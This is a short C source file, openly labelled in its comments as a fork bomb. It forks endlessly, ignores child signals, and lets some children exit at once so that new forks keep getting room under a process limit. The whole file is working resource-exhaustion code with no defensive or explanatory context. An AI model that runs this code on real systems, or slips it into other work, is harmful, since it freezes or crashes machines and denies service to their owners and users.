/* SPDX-License-Identifier: Apache-2.0 */
/* A fork bomb that does not mind a limit: every process forks as fast as it may, for ever. */
#include <signal.h>
#include <unistd.h>

int main(void)
{
	/* Nobody waits for anybody. */
	signal(SIGCHLD, SIG_IGN);
	for (;;) {
		/* One in eight ends at once, so that there is always room for the next. */
		if (fork() == 0 && getpid() % 8 == 0)
			_exit(0);
	}
}
